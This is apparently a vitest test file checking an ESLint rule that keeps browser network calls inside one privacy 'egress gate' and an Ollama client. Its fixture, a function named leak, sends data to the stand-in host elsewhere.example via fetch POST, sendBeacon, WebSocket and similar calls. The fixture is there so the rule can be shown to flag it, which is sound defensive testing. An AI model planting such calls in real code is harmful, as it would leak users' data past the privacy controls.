/**
 * The one egress gate, held by the lint rule (eslint.config.mjs): product code
 * outside the gate and the listed Ollama / same-origin modules cannot use the
 * browser's network primitives.
 */
import { ESLint } from 'eslint';
import { describe, expect, it } from 'vitest';

const LEAK = `
export async function leak(data: string) {
  await fetch('https://elsewhere.example/x', { method: 'POST', body: data });
  await globalThis.fetch('https://elsewhere.example/y');
  navigator.sendBeacon('https://elsewhere.example/b', data);
  new WebSocket('wss://elsewhere.example');
  new EventSource('https://elsewhere.example/s');
  return new XMLHttpRequest();
}
export const typed = (f: typeof fetch) => f;
`;

async function problems(filePath: string, code = LEAK): Promise<string[]> {
  const eslint = new ESLint({ cwd: process.cwd() });
  const [result] = await eslint.lintText(code, { filePath });
  return result.messages.map((m) => `${m.line}:${m.ruleId}`);
}

describe('the egress lint rule', () => {
  it('flags every network primitive in product code outside the gate (types are fine)', async () => {
    for (const file of ['lib/community/pack/leak.ts', 'app/_components/leak.tsx', 'workers/leak.ts']) {
      expect(await problems(file)).toEqual([
        '3:no-restricted-globals',
        '4:no-restricted-properties',
        '5:no-restricted-properties',
        '6:no-restricted-globals',
        '7:no-restricted-globals',
        '8:no-restricted-globals',
      ]);
    }
  });

  it('lets the gate itself and the Ollama client make requests', async () => {
    expect(await problems('lib/privacy/egress.ts')).toEqual([]);
    expect(await problems('lib/ollama/client.ts')).toEqual([]);
  });

  it('keeps the Ollama package to lib/ollama', async () => {
    expect(
      await problems('lib/chat/leak.ts', "import { Ollama } from 'ollama/browser';\nexport { Ollama };\n"),
    ).toEqual(['1:no-restricted-imports']);
  });
});
